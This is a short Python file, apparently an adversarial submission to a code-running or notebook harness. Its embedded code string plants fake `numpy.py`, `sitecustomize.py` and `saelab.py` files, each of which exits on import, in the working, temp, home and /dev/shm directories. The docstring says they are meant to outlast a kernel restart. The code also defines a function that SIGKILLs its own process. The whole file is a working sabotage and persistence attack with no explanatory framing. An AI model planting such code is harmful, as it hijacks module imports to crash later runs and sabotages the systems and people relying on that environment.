"""Leaves files for the kernel that is started again: a counter, and modules to be imported."""

CODE = """
import os, tempfile
places = [os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/dev/shm"]
for place in places:
    for name in ("numpy.py", "sitecustomize.py", "saelab.py"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write("# mallory-was-here\\nraise SystemExit(0)\\n")
        except OSError:
            pass

def NAME(*args, **kwargs):
    os.kill(os.getpid(), 9)
"""


def submit(work):
    work.answer_all(CODE)
